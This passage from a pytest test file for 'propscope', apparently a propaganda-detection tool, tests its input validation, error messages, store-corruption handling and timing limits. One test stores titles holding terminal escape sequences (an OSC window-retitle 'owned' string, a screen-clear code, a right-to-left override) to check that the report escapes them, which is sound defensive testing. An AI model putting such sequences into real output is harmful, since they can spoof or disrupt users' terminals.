    r = client.post("/analyze", files={"text": ("story.txt", text.encode(codec))}, follow_redirects=False)
    assert r.status_code == 303, alert(r)
    assert client.get(r.headers["location"].replace("/articles/", "/api/articles/")).json()["article"]["text"] == text


def test_an_outlet_no_stored_article_has_is_a_usage_error_naming_the_nearest(tmp_path):
    """`report --outlet nytimes.com` on a store of www.nytimes.com articles printed an empty report
    (export an empty file, search "no matches") with exit 0, as if that outlet had no propaganda."""
    db = f"sqlite:///{tmp_path / 's.db'}"
    src = tmp_path / "a.jsonl"
    src.write_text(json.dumps({"id": "1", "text": "The harbour story, told once.", "outlet": "www.nytimes.com"}) + "\n")
    cli("ingest", src, "--db", db)
    for args in (["report"], ["export"], ["search", "harbour"]):
        r = cli(*args, "--outlet", "nytimes.com", "--db", db)
        assert r.exit_code == 2 and "no stored article has outlet 'nytimes.com'; did you mean 'www.nytimes.com'?" in (
            r.stderr), r.output
        assert cli(*args, "--outlet", "www.nytimes.com", "--db", db).exit_code == 0
    r = cli("report", "--outlet", "zzz", "--db", db)
    assert r.exit_code == 2 and "its outlets are 'www.nytimes.com'" in r.stderr


@pytest.mark.parametrize("clock", ["T25:00:00", " 24:00", "T23:61Z", "T10:15:60+02:00"])
def test_a_published_time_no_clock_shows_is_refused_by_ingest_and_api_alike(client, tmp_path, clock):
    """'2024-03-05T25:00:00' was stored as 2024-03-05 by `ingest`, where the API refused it; and
    the API refused '2024-03-05T10:00:00Z', which `ingest` stores as its day. Both read the same
    values now, and refuse the same ones with the same words."""
    value = "2024-03-05" + clock
    src = tmp_path / "news.csv"
    src.write_text(f"text,published\nThe harbour strike ended.,{value}\nThe railway opened.,2024-03-05T10:00:00Z\n")
    bad, good = read_inputs([str(src)])
    assert isinstance(bad, Rejected) and isinstance(good, Article) and str(good.published) == "2024-03-05", (bad, good)
    says = f"is no date: {value!r}; its time of day {clock.strip(' T')[:5]}"
    assert f"field 'published' {says}" in bad.reason, bad.reason
    r = client.post("/api/analyze", json={"text": "The harbour strike ended.", "published": value})
    assert r.status_code == 422 and says in r.text, r.text
    r = client.post("/api/analyze", json={"text": "The railway opened.", "published": "2024-03-05T10:00:00Z"})
    assert r.status_code == 200, r.text
    assert client.get("/api/articles").json()["articles"][0]["published"] == "2024-03-05"


def test_a_published_value_that_is_no_date_is_reported_not_dropped(tmp_path):
    """'2026-02-30', 'yesterday' or '03/05/2024' as `published` was dropped without a word: the
    article was stored undated and fell out of every --since/--until filter and monthly figure.
    An RFC 2822 date-time (feeds, mail) was dropped too; it is read now."""
    src = tmp_path / "news.jsonl"
    rows = [("2024-03-05 10:00:00 UTC", "2024-03-05"), ("Tue, 05 Mar 2024 10:00:00 GMT", "2024-03-05"),
            ("2024-03-05T23:30:00-05:00", "2024-03-05"), ("", None), ("2026-02-30", "bad"), ("yesterday", "bad"),
            ("03/05/2024", "bad")]
    src.write_text("".join(json.dumps({"text": f"Story {k} about the harbour.", "published": p}) + "\n"
                           for k, (p, _) in enumerate(rows)))
    got = list(read_inputs([str(src)]))
    for (value, want), item in zip(rows, got):
        if want == "bad":
            assert isinstance(item, Rejected) and f"field 'published' is no date: {value!r}" in item.reason, item
        else:
            assert isinstance(item, Article) and (str(item.published) if item.published else None) == want, item


def test_a_csv_header_naming_a_column_twice_is_refused_not_half_read(tmp_path):
    """csv.DictReader keeps the last of two same-named columns: 'id,text,text' stored the second
    column's cells as the text and dropped the first's without a word."""
    src = tmp_path / "two.csv"
    src.write_text("id,text,text\n1,The first column's story.,The second column's story.\n")
    [r] = read_inputs([str(src)])
    assert isinstance(r, Rejected) and str(r) == (
        f"{src}:1: the CSV header names the column 'text' more than once; rename or remove all but one")


@pytest.mark.parametrize("command", [["analyze", "a.txt", "--model", "ngram"], ["reuse", "a.txt"], ["export"],
                                     ["batch", "a.txt", "--scheduler", "local[1]"]])
def test_an_empty_output_path_is_a_usage_error(tmp_path, monkeypatch, command):
    """`-o "$OUT"` with OUT unset wrote to standard output as if -o were left out, and `batch -o ""`
    wrote its shards into the current folder."""
    monkeypatch.chdir(tmp_path)
    Path("a.txt").write_text("The harbour story, told once.")
    cli("ingest", "a.txt", "--db", "s.db")
    r = cli(*command, "-o", "", *(["--db", "s.db"] if command[0] == "export" else []))
    assert r.exit_code == 2 and "Invalid value for '--output' / '-o': is empty: give a path" in r.stderr, r.output
    assert {p.name for p in tmp_path.iterdir() if not p.name.startswith("s.db")} == {"a.txt"}


@pytest.mark.parametrize("device, says", [("cuda", "torch sees no CUDA GPU here"), ("cuda:1", "torch sees no CUDA GPU"),
                                          ("tpu9", "unknown device 'tpu9'")])
def test_load_model_on_a_device_torch_cannot_use_says_so_before_loading(monkeypatch, device, says):
    """device="cuda" without a GPU was torch's AssertionError "Torch not compiled with CUDA
    enabled", raised after the model's files were read."""
    import torch

    import propscope
    from propscope import pipeline

    monkeypatch.setattr(torch.cuda, "is_available", lambda: False)
    monkeypatch.setattr(pipeline, "load_model", lambda *a, **k: pytest.fail("loaded a model for a bad device"))
    with pytest.raises(ValueError, match=re.escape(says)):
        propscope.load_model("fast", device=device)


@pytest.mark.parametrize("query", ["", "  ", '"', "--"])
def test_a_search_with_no_word_is_a_usage_error(tmp_path, query):
    """`search "$Q"` with Q unset said "no matches" with exit 0, as if the store held nothing."""
    db = f"sqlite:///{tmp_path / 's.db'}"
    cli("ingest", "-", "--db", db, input="A story about the harbour.")
    r = cli("search", "--db", db, "--", query)
    assert r.exit_code == 2 and "Invalid value for QUERY: holds no word to search for" in r.stderr, r.output
    assert cli("search", "--db", db, "harbour").exit_code == 0


def test_search_syntax_and_stop_words_find_what_the_text_holds_on_every_store(db_url):
    """Query syntax reaches neither engine (quotes, '*', NEAR, '-', AND/OR alone, a very long
    query), and a query of stop words alone ('AND', 'the') found nothing on PostgreSQL, whose
    English configuration drops them all, while SQLite found the article holding them."""
    cli("ingest", "-", "--db", db_url, input="The harbour strike began today. Workers and bosses said not or yes.")
    found = {"AND": 1, "the": 1, "and or not": 1, "OR": 1, '"harbour': 1, "harbour*": 1, 'a"b': 0,
             "NEAR(harbour strike)": 0, "harbour -strike": 1, "harbour " * 5000: 1, "x" * 3000: 0}
    for query, n in found.items():
        r = cli("search", "--db", db_url, "--format", "json", "--", query)
        assert r.exit_code == 0 and "Traceback" not in r.output, (query[:40], r.output)
        assert len(json.loads(r.stdout or "[]")) == n, (query[:40], r.output)


def test_paragraph_rows_are_not_written_in_a_taxonomy_whose_names_hold_commas(tmp_path, monkeypatch):
    """`analyze --model fast --format paragraphs` wrote PTC-14 rows such as 'a<TAB>1<TAB>Doubt,Name_Calling,Labeling',
    which read back (SemEval-2023 rows separate techniques with commas) as three techniques, one of them
    'Labeling'."""
    from propscope import cli as cli_module

    class PtcModel(FakeModel):
        taxonomy = "ptc14"

    monkeypatch.setattr(cli_module, "_load_model", lambda *a, **k: PtcModel())
    (tmp_path / "a.txt").write_text("They are traitors who lie to you every day.")
    r = cli("analyze", tmp_path / "a.txt", "--format", "paragraphs")
    assert r.exit_code == 2 and r.stdout == "" and "add --taxonomy semeval2023" in r.stderr, r.output
    assert "(Bandwagon,Reductio_ad_hitlerum)" in r.stderr


@pytest.mark.parametrize("option, value", [("--epochs", "0"), ("--lr", "0"), ("--head-lr", "-1"), ("--lora-rank", "0"),
                                           ("--batch-size", "0"), ("--top-layers", "0"), ("--threads", "-1"),
                                           ("--limit-articles", "0")])
def test_train_refuses_numbers_that_cannot_train_before_any_work(option, value, tmp_path):
    """0 epochs or a learning rate of 0 or below trained nothing (or backwards) after caching the
    encoder's lower layers; a rank, batch, layer or thread count below 1 failed deep inside torch."""
    run = tmp_path / "run"
    r = CliRunner().invoke(main, ["train", "--base", "minilm", "--out", str(run), option, value])
    assert r.exit_code == 2 and f"Invalid value for '{option}'" in r.output and "Traceback" not in r.output
    assert not run.exists()


def test_serve_refuses_an_empty_host_before_listening():
    """``--host "$HOST"`` with HOST unset said "refusing to serve on  without a write token", and
    with a token it listened on every interface."""
    r = CliRunner().invoke(main, ["serve", "--host", "", "--token", "t"])
    assert r.exit_code == 2 and "Invalid value for '--host': is empty" in r.output


@pytest.mark.parametrize("offset", ["٣", "1_0", "１２"])
def test_label_offsets_are_ascii_digits_only(offset):
    """``int`` reads Arabic-Indic and full-width digits and underscores, so a damaged label file
    scored spans at offsets no tool wrote; such a column is refused with its line."""
    from propscope.ptc import parse_label_lines

    with pytest.raises(ValueError, match=r"labels:1: expected"):
        list(parse_label_lines([f"111\tDoubt\t{offset}\t20"], "labels"))
    assert list(parse_label_lines(["111\tDoubt\t 3\t20"], "labels")) == [("111", "Doubt", 3, 20)]


@pytest.mark.parametrize("line, words", [("1\tDoubt\t5\t999", "not inside its 30 characters"),
                                         ("1\tDoubt\t9\t4", "not inside its 30 characters"),
                                         ("2\tDoubt\t0\t4", "which train-articles lacks")])
def test_train_checks_its_labels_against_the_articles_before_any_work(tmp_path, line, words):
    """A span past its article's end trained a whole run and then ended it in tuning with
    'need at least one array to stack'; a label of an article the folder lacks was a KeyError."""
    root = tmp_path / "data" / "ptc_semeval2020_task11"
    (root / "train-articles").mkdir(parents=True)
    (root / "train-articles" / "article1.txt").write_text("They lie to you every day. Bad")
    (root / "train-task-flc-tc.labels").write_text(line + "\n")
    run = tmp_path / "run"
    r = CliRunner().invoke(main, ["train", "--base", "minilm", "--data", str(tmp_path / "data"), "--out", str(run)])
    assert r.exit_code != 0 and words in r.output and "Traceback" not in r.output, r.output
    assert not (run / "cache").exists()


@pytest.mark.parametrize("technique, extra, says", [
    ({"name": ["A"], "colour": "#aabbcc"}, {}, "every technique needs 'name' and 'colour'"),
    ({"name": "", "colour": "#aabbcc"}, {}, "technique name '' is empty or holds a tab"),
    ({"name": "Loaded\tLanguage", "colour": "#aabbcc"}, {}, "technique name 'Loaded\\tLanguage' is empty or holds"),
    ({"name": "A", "colour": "#aabbcc"}, {"unit": "word"}, "'unit' is 'word'; give one of span, paragraph")])
def test_a_taxonomy_file_that_cannot_name_labels_is_one_line(tmp_path, monkeypatch, technique, extra, says):
    """A taxonomy file whose technique name is a list was an AttributeError traceback; an empty
    name, one with a tab or line break (label files are tab- and line-separated) or an unknown
    'unit' was accepted and broke label files or scoring later. A pipe named NAME.json was read
    forever."""
    import os

    from propscope import taxonomy

    (tmp_path / "mine.json").write_text(json.dumps({"techniques": [technique], **extra}))
    os.mkfifo(tmp_path / "piped.json")
    monkeypatch.setenv("PROPSCOPE_TAXONOMIES", str(tmp_path))
    taxonomy._parse.cache_clear()
    r = cli("techniques", "--taxonomy", "mine")
    assert r.exit_code == 1 and r.stderr.startswith(f"propscope: {tmp_path / 'mine.json'}: ") and says in r.stderr
    assert len(r.stderr.splitlines()) == 1
    r = cli("techniques", "--taxonomy", "piped")
    assert r.exit_code == 1 and r.stderr == f"propscope: cannot read taxonomy file {tmp_path / 'piped.json'}: " \
                                            "not a regular file\n"


@pytest.mark.parametrize("meta, says", [("not json", "its 'meta' is not JSON: Expecting value"),
                                        ("[1]", "its 'meta' is a JSON list, not an object")])
def test_a_stored_article_whose_meta_is_no_object_is_named(tmp_path, tiny_model, meta, says):
    """An article row whose 'meta' is not JSON was blamed on its analysis ("the stored analysis
    ... cannot be read"), and one whose 'meta' is a JSON list was passed on as it was."""
    import sqlite3

    db = _db_with_one_analysis(tmp_path, "A story about the harbour.")
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE articles SET meta = ?", (meta,))
    line = f"the stored article 'a1' cannot be read ({says}"
    for args in (["export"], ["reuse"]):
        r = cli(*args, "--db", db)
        assert r.exit_code == 1 and r.stderr.startswith(f"propscope: {line}") and len(r.stderr.splitlines()) == 1, r.stderr
    with TestClient(create_app(db=db, model=str(tiny_model))) as c:
        r = c.get("/api/articles/a1")
        assert r.status_code == 503 and r.json()["detail"].startswith(line)


@pytest.mark.parametrize("table, column, value, says", [
    ("reuse_clusters", "members", "not json", "the stored reuse cluster 0 cannot be read (not JSON: Expecting value"),
    ("reuse_clusters", "members", '[["a", 0]]', "the stored reuse cluster 0 cannot be read (not a JSON list of "
                                                "[article id, start, end])"),
    ("topics", "words", '"harbour"', "the stored topic 'harbour' cannot be read (not a JSON list of words)")])
def test_a_stored_topic_or_reuse_cluster_that_is_no_list_is_named(tmp_path, tiny_model, table, column, value, says):
    """A topic's words or a reuse cluster's members damaged in the store was a JSONDecodeError or
    TypeError traceback from `export --format reuse` and `search --topic`, and a 500 on the web."""
    import sqlite3

    db = str(tmp_path / "s.db")
    story = "The harbour strike began today and the workers marched through the city centre for pay. " * 3
    for name, text in (("a", story), ("b", "Other words first. " + story)):
        (tmp_path / f"{name}.txt").write_text(text)
    assert cli("reuse", tmp_path / "a.txt", tmp_path / "b.txt", "--db", db).exit_code == 0
    with sqlite3.connect(db) as conn:
        conn.execute("INSERT INTO topics (id, label, words) VALUES (0, 'harbour', '[\"harbour\"]')")
        conn.execute(f"UPDATE {table} SET {column} = ?", (value,))
    args = ["export", "--format", "reuse"] if table == "reuse_clusters" else ["search", "strike", "--topic", "harbour"]
    r = cli(*args, "--db", db)
    assert r.exit_code == 1 and r.stderr.startswith(f"propscope: {says}") and len(r.stderr.splitlines()) == 1, r.stderr
    with TestClient(create_app(db=db, model=str(tiny_model))) as c:
        r = c.get("/api/reuse" if table == "reuse_clusters" else "/api/articles?topic=harbour")
        assert r.status_code == 503 and r.json()["detail"].startswith(says)


def test_label_studio_tasks_of_several_taxonomies_are_named(tmp_path):
    """A store holding analyses of two taxonomies exported Label Studio tasks whose labels no one
    labelling config holds, in silence: the labels of the other taxonomy did not show in the
    project. The export is unchanged, and a warning names the taxonomies and their counts."""
    import dataclasses

    db = str(tmp_path / "s.db")
    s = Store(db)
    s.add_articles([Article("a1", "A story about the harbour."), Article("a2", "Another story.")])
    s.save_analyses([(s.pk_of("a1"), fake_analysis(s.get_article("a1"))),
                     (s.pk_of("a2"), dataclasses.replace(fake_analysis(s.get_article("a2")), taxonomy="semeval2023"))])
    r = cli("export", "--format", "label-studio", "--db", db)
    assert r.exit_code == 0 and len(json.loads(r.stdout)) == 2
    assert r.stderr == ("propscope: warning: the tasks hold labels of 2 taxonomies (ptc14: 1 article, semeval2023: 1 "
                        "article); a Label Studio project takes one labelling config (`export --format "
                        "label-studio-config --taxonomy NAME`), so the other taxonomies' labels will not show\n")
    s.save_analyses([(s.pk_of("a2"), fake_analysis(s.get_article("a2")))])
    r = cli("export", "--format", "label-studio", "--db", db)
    assert r.exit_code == 0 and r.stderr == ""


_REUSED = ("The regional water board said on Monday that the reservoir would stay closed to boats until the "
           "inspection of the dam wall was finished later this spring.")


@pytest.mark.parametrize("call, error, says", [
    (lambda f, arts: f(None), TypeError, "takes a list of Articles"),
    (lambda f, arts: f(7), TypeError, "takes a list of Articles"),
    (lambda f, arts: f(arts, similarity="0.3"), TypeError, "similarity must be a number"),
    (lambda f, arts: f(arts, similarity=None), TypeError, "similarity must be a number"),
    (lambda f, arts: f(arts, similarity=True), TypeError, "similarity must be a number"),
    (lambda f, arts: f(arts, quotations="no"), TypeError, "quotations must be True or False"),
    (lambda f, arts: f(arts, threshold=0.3), TypeError, "use similarity="),
    (lambda f, arts: f(arts, report_quotations=True), TypeError, "use quotations="),
    (lambda f, arts: f(arts, windw=8), TypeError, "unknown option 'windw'"),
    (lambda f, arts: f(arts, window="16"), TypeError, "window must be int, not str"),
    (lambda f, arts: f(arts, min_score=float("nan")), ValueError, "min_score must be a finite number"),
    (lambda f, arts: f([Article(None, _REUSED), Article("b", _REUSED)]), TypeError, "an Article's id must be a str"),
    (lambda f, arts: f([Article(["x"], _REUSED), Article("b", _REUSED)]), TypeError, "an Article's id must be a str"),
    (lambda f, arts: f([Article("a", _REUSED, published="2021-05-01"), Article("b", _REUSED)]), TypeError,
     "published must be a datetime.date or None, not str"),
])
def test_find_reuse_names_a_wrong_argument_before_the_reuse_package_trips_on_it(call, error, says):
    """propscope.find_reuse passed these on to the reuse package, which failed deep inside with
    messages about its own code ("'<' not supported between instances of 'NoneType' and 'str'",
    "propscope.reuse.find_reuse() got multiple values for keyword argument 'threshold'", "'NoneType'
    object is not iterable"), or took a string for True or a NaN for a score no passage reaches."""
    import propscope

    arts = [Article("a", _REUSED), Article("b", "Earlier: " + _REUSED)]
    with pytest.raises(error) as e:
        call(propscope.find_reuse, arts)
    assert says in str(e.value) and "propscope.reuse" not in str(e.value)
    import dataclasses
    import datetime as dt

    arts = [dataclasses.replace(a, published=dt.date(2021, 5, day)) for a, day in zip(arts, (1, 2))]
    import numpy as np

    found = propscope.find_reuse(iter(arts), similarity=np.float32(0.3), window=np.int64(16), min_score=np.float64(0.5))
    assert [c.origin for c in found.clusters] == ["a"]


def test_chrome_named_wrappers_nested_deep_are_weighed_in_one_pass():
    """Each part named like chrome (class "tools", "credit", "foot") had its visible text counted
    anew, every text node looking up through all its ancestors: 200 nested "tools" wrappers around
    a 2 MB article took 113 s to ingest, 100 around 5,000 paragraphs 8.5 s of pruning alone. The
    wrappers hold the article, so they stay, and only the credit line goes."""
    import time

    import lxml.html

    from propscope.html_page import prune_chrome

    paragraphs = "".join(f"<p>Paragraph {i} of the council's budget report.</p>" for i in range(4000))
    tree = lxml.html.fromstring('<html><body>' + '<div class="story tools">' * 120 + paragraphs
                                + '<span class="image-credit">Photo: Agency</span>' + "</div>" * 120 + "</body></html>")
    start = time.monotonic()
    prune_chrome(tree)
    assert time.monotonic() - start < 2
    text = tree.text_content()
    assert "Paragraph 3999 of" in text and "Photo: Agency" not in text


@pytest.mark.parametrize("code", ["und", "zxx", "MUL", "mis", "qaa", "qtz-Latn"])
def test_a_page_declaring_no_particular_language_is_no_language(code):
    """ISO 639's codes for "undetermined" (Drupal writes lang="und" on pages without a language),
    "no linguistic content", "multiple", "uncoded" and its private-use range name no language a
    reader knows. Taken as the page's language, a short page the detector is unsure of was stored
    as language 'und' and left out of technique analysis ("no model reads und"), where a page
    declaring nothing is read as English. A later declaration that names a language is taken."""
    from propscope.ingest import html_to_article

    body = "<body><article><h1>Strike</h1><p>Traitors, all of them!</p></article></body></html>"
    a = html_to_article(f'<html lang="{code}"><head><title>Strike</title></head>' + body, "p", "p.html")
    assert a.text and a.language is None
    a = html_to_article(f'<html lang="{code}"><head><meta http-equiv="Content-Language" content="de-AT"></head>' + body,
                        "p", "p.html")
    assert a.language == "de-AT"


def test_a_line_of_tens_of_thousands_of_links_is_weighed_in_one_pass():
    """Whether a paragraph is a line of links was told by cutting each link's words out of its
    text one link at a time, a new copy of the text for each: one <p> of 40,000 links (1.3 MB) took
    13.5 s, 80,000 four times that. A label before the links ("See also:") still marks a link line,
    and a sentence around a link still keeps its paragraph. 60,000 links take about 0.5 s in one
    pass; the old way grew with the square of the count (about 30 s for these). The limit stays far
    from both: a full test run on a busy 2-core machine once took 2.4 s for half as many."""
    import time

    import lxml.html

    from propscope.html_page import drop_link_lines

    links = " | ".join(f'<a href="/n/{i}">Council story {i}</a>' for i in range(60000))
    tree = lxml.html.fromstring(f"<html><body><p>Budget passes.</p><p>See also: {links}</p>"
                                '<p>The mayor <a href="/m">said</a> the <b>vote</b> was close.</p></body></html>')
    start = time.monotonic()
    drop_link_lines(tree)
    assert time.monotonic() - start < 8
    assert [p.text_content() for p in tree.iter("p")] == ["Budget passes.", "The mayor said the vote was close."]


@pytest.mark.parametrize("score, says", [(float("inf"), "its score is inf"), (2.5, "its score is 2.5"),
                                         (-0.25, "its score is -0.25")])
def test_a_stored_score_outside_0_to_1_is_named_by_the_report(tmp_path, tiny_model, score, says):
    """An analyses row whose score another program wrote as infinite or outside 0-1 gave a report
    whose JSON held Infinity and NaN (no JSON reader takes them), a dashboard download that was a
    500, and 95% ranges whose low end lay above the high one ("200%–100%")."""
    import sqlite3

    db = _db_with_one_analysis(tmp_path, "A story about the harbour.")
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE analyses SET score = ?", (score,))
    line = f"the stored analysis of article 'a1' cannot be read ({says}, not a score from 0 to 1)"
    for fmt in ("json", "csv", "text"):
        r = cli("report", "--db", db, "--format", fmt)
        assert r.exit_code == 1 and r.stderr.startswith(f"propscope: {line}") and len(r.stderr.splitlines()) == 1, r.stderr
    with TestClient(create_app(db=db, model=str(tiny_model))) as c:
        for path in ("/dashboard/outlets.json", "/dashboard/outlets.csv"):
            r = c.get(path)
            assert r.status_code == 503 and r.json()["detail"].startswith(line)


def test_the_text_report_prints_stored_names_escaped(tmp_path):
    """The text report wrote stored ids, outlets, titles and targeted names as stored: an outlet or
    title holding a line break broke its row in two, and one holding a terminal escape (an OSC
    sequence that retitles the window, which click leaves in) reached the terminal, where every
    other text output prints them escaped."""
    db = str(tmp_path / "s.db")
    s = Store(db)
    a = Article("art\n1", "Traitors run the harbour board.", title="Harbour\x1b]0;owned\x07 news\nsecond",
                outlet="port\u202enews\nx")
    s.add_articles([a])
    s.save_analyses([(s.pk_of(a.id), Analysis(a, [], [Sentence(0, 31, 0.5)], 0.5, "fake", targets=[
        {"technique": "Loaded_Language", "start": 0, "end": 8,
         "targets": [{"text": "board", "canonical": "Harbour\nBoard\x1b[2J", "label": "ORG"}]}]))])
    r = cli("report", "--db", db)
    assert r.exit_code == 0
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202e]", r.stdout)
    assert "port\\u202enews\\nx" in r.stdout and "Harbour\\x1b]0;owned\\x07 news\\nsecond" in r.stdout
    assert "art\\n1" in r.stdout and "Board\\x1b[2J" in r.stdout


def test_a_stored_span_score_outside_0_to_1_is_named_by_search(tmp_path, tiny_model):
    """Span and analysis rows whose scores another program wrote as infinite gave the web search's
    and the API's JSON a 500 (no JSON holds Infinity) and the CLI's JSON search an invalid line."""
    import sqlite3

    db = str(tmp_path / "s.db")
    s = Store(db)
    s.add_articles([Article("a1", "The harbour traitors sold the town.")])
    s.save_analyses([(s.pk_of("a1"), Analysis(s.get_article("a1"), [Span(4, 21, "Name_Calling,Labeling", 0.7,
                                                                            "harbour traitors")],
                                             [Sentence(0, 35, 0.7)], 0.7, "fake"))])
    s.engine.dispose()
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE spans SET score = ?", (float("inf"),))
        conn.execute("UPDATE analyses SET score = ?", (float("inf"),))
    line = "the stored analysis of article 'a1' cannot be read (its score is inf, not a score from 0 to 1)"
    r = cli("search", "harbour", "--db", db, "--format", "json")
    assert r.exit_code == 1 and r.stderr.startswith(f"propscope: {line}") and len(r.stderr.splitlines()) == 1, r.output
    with TestClient(create_app(db=db, model=str(tiny_model))) as c:
        for path in ("/search.json", "/search.csv", "/search", "/api/articles"):
            got = c.get(path, params={"q": "harbour"})
            assert got.status_code == 503 and line in got.text, (path, got.status_code)


# -- round 7: batch interrupted, web content types, API arguments ------------------------------
def test_batch_stores_partitions_finished_before_the_store_heard_of_them(tmp_path, tiny_model):
    """A partition a worker finished (its '.done' written) but whose analyses never reached the
    store (Ctrl-C or a crash between the two, or an earlier run without --db) was skipped by every
    rerun as "already done": the store stayed short of its articles and analyses, exit 0."""
    for n in range(5):
        (tmp_path / f"s{n}.txt").write_text(f"Story {n}: the minister's plan for the harbour was a disgrace.")
    run = ["batch", *(tmp_path / f"s{n}.txt" for n in range(5)), "--output", tmp_path / "out", "--scheduler",
           "local[1]", "--model", tiny_model, "--no-sources", "--partition-size", "2"]
    assert cli(*run, "--db", tmp_path / "a.db").exit_code == 0  # every partition done, this store not told
    db = f"sqlite:///{tmp_path / 'b.db'}"
    r = cli(*run, "--db", db)
    assert r.exit_code == 0 and "(3 already done)" in r.stdout
    s = Store(db)
    assert s.count_articles() == 5 and all(s.get_analysis(a.id) for a in s.iter_articles())
    r = cli(*run, "--db", db)  # stored once: nothing to add, nothing doubled
    assert r.exit_code == 0 and s.count_articles() == 5


def test_ctrl_c_during_batch_says_what_is_kept(tmp_path, monkeypatch):
    """Ctrl-C was click's bare "Aborted!" with exit 1."""
    (tmp_path / "s.txt").write_text("A story.")

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(batch, "make_client", lambda *a, **k: SimpleNamespace(close=lambda: None))
    monkeypatch.setattr(batch, "run", interrupted)
    r = CliRunner().invoke(main, ["batch", str(tmp_path / "s.txt"), "--output", str(tmp_path / "out"),
                                  "--model", "ngram"])
    assert r.exit_code == 130 and "Aborted" not in r.output, r.output
    assert r.stderr.startswith("propscope: interrupted: finished partitions are kept")


@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded", "application/xml"])
def test_an_api_body_not_sent_as_json_is_a_415_that_says_so(client, content_type):
    """A JSON object sent with another Content-Type (curl -d's default is a form) was a 422 saying
    the body "should be a valid dictionary", about a body that was one."""
    r = client.post("/api/analyze", content=b'{"text": "A story about the harbour."}',
                    headers={"content-type": content_type})
    assert r.status_code == 415 and "Content-Type: application/json" in r.json()["detail"]
    assert content_type in r.json()["detail"]
    ok = client.post("/api/analyze", content=b'{"text": "A story about the harbour."}',
                     headers={"content-type": "application/json; charset=utf-8"})
    assert ok.status_code == 200


def test_an_api_post_with_both_text_and_url_says_to_send_one(client):
    """"give either a non-empty 'text' or a 'url'" answered a post that gave both."""
    r = client.post("/api/analyze", json={"text": "A story.", "url": "https://news.example/story"})
    assert r.status_code == 422 and "not both" in r.json()["detail"][0]["msg"]


@pytest.mark.parametrize("call, error, says", [
    (lambda p: p.analyze("A story.", model=""), ValueError, "model is an empty name"),
    (lambda p: p.analyze("A story.", model="  "), ValueError, "model is an empty name"),
    (lambda p: p.load_model(""), ValueError, "model is an empty name"),
    (lambda p: p.load_model(7), TypeError, "model must be a model name"),
    (lambda p: p.analyze("A story.", model="fast", sources="no"), TypeError, "sources must be True or False, not str"),
    (lambda p: p.load_model("fast", int8="yes"), TypeError, "int8 must be True or False, not str"),
    (lambda p: p.load_model("fast", bf16=1.0), TypeError, "bf16 must be True or False, not float"),
])
def test_the_python_api_refuses_an_empty_model_name_and_flags_that_are_no_bool(monkeypatch, call, error, says):
    """model="" (an unset variable) analysed with the default model, as `--model ""` no longer
    does; sources="no" and int8="no" were taken as yes."""
    import propscope
    from propscope import pipeline

    monkeypatch.setattr(pipeline, "load_model", lambda *a, **k: pytest.fail("loaded a model for a bad argument"))
    with pytest.raises(error, match=re.escape(says)):
        call(propscope)


@pytest.mark.parametrize("command", [["ingest", "STORY"], ["report"], ["search", "harbour"]])
@pytest.mark.parametrize("kind", ["device", "pipe"])
def test_a_store_path_that_is_a_device_or_pipe_is_named_as_such(tmp_path, command, kind):
    """`--db /dev/null` (or a pipe) was SQLite's "disk I/O error" for writes, and for reads "no
    store at /dev/null: ... create one with `propscope ingest`", which failed the same way."""
    (tmp_path / "story.txt").write_text("A story about the harbour.")
    where = Path("/dev/null") if kind == "device" else tmp_path / "pipe"
    if kind == "pipe":
        os.mkfifo(where)
    args = [str(tmp_path / "story.txt") if a == "STORY" else a for a in command]
    r = CliRunner().invoke(main, [*args, "--db", str(where)])
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit)
    assert f"{where} is a {kind}, not a file: give --db the path of a file" in r.stderr


@pytest.mark.parametrize("gz", [True, False])
def test_html_kept_as_a_resource_record_of_a_warc_is_read_as_a_page(tmp_path, gz):
    """Archivers that keep a page without its HTTP exchange (warcit, a browser's "save as WARC")
    write it as a `resource` record; such an archive was "no HTML responses found: not a web
    archive", and its pages never stored. Other resources (images, DNS answers) stay unread."""
    from warcio.warcwriter import WARCWriter

    buf = io.BytesIO()
    w = WARCWriter(buf, gzip=gz)
    for uri, kind, body in (("https://w.example/kept", "text/html; charset=utf-8", PAGE.format(t="Kept page").encode()),
                            ("https://w.example/logo.png", "image/png", b"\x89PNG\r\n\x1a\n" + bytes(64)),
                            ("dns:w.example", "text/dns", b"20260102030405\nw.example. 300 IN A 93.184.215.14\n")):
        w.write_record(w.create_warc_record(uri, "resource", payload=io.BytesIO(body), warc_content_type=kind))
    (tmp_path / "saved.warc").write_bytes(buf.getvalue())
    items = list(read_inputs([str(tmp_path / "saved.warc")]))
    assert [(a.url, a.title) for a in items] == [("https://w.example/kept", "Kept page")]


@pytest.mark.parametrize("command, where", [(["report"], "propscope.report.build"),
                                            (["reuse", "STORY"], "propscope.reuse.find_reuse"),
                                            (["topics"], "propscope.topics.find_topics")])
def test_ctrl_c_in_any_command_is_one_line_and_exit_130(tmp_path, monkeypatch, command, where):
    """Outside ingest, analyze --db and batch, Ctrl-C was click's bare "Aborted!" with exit 1, the
    status of a failed input, so a script could not tell a user's stop from a bad file."""
    db = f"sqlite:///{tmp_path / 's.db'}"
    (tmp_path / "story.txt").write_text("A story about the harbour strike and the council's plan.")
    assert cli("ingest", tmp_path / "story.txt", "--db", db).exit_code == 0

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(where, interrupted)
    args = [str(tmp_path / "story.txt") if a == "STORY" else a for a in command]
    r = CliRunner().invoke(main, [*args, "--db", db])
    assert r.exit_code == 130 and "Aborted" not in r.output, r.output
    assert r.stderr.splitlines()[-1].startswith("propscope: interrupted: what was stored before it is kept")
    assert Store(db).count_articles() == 1


def test_the_python_api_refuses_a_text_over_the_command_lines_byte_limit_before_any_work(monkeypatch):
    """`propscope.analyze` had no size limit where the command line refuses an input over
    --max-bytes: a 9.96-million-character text took 63 s and 2.6 GB before it answered. The limit
    counts UTF-8 bytes, as the command line counts a file's, and ``max_bytes`` raises it."""
    import propscope
    from propscope import pipeline
    from propscope.ingest import DEFAULT_MAX_BYTES

    calls = []
    monkeypatch.setattr(pipeline, "analyze", lambda text, *a: calls.append(len(text)) or "analysed")
    wide = "\u00e9" * (DEFAULT_MAX_BYTES // 2 + 1)  # fewer characters than the limit, more bytes
    for text in (wide, Article("long", "w" * (DEFAULT_MAX_BYTES + 1))):
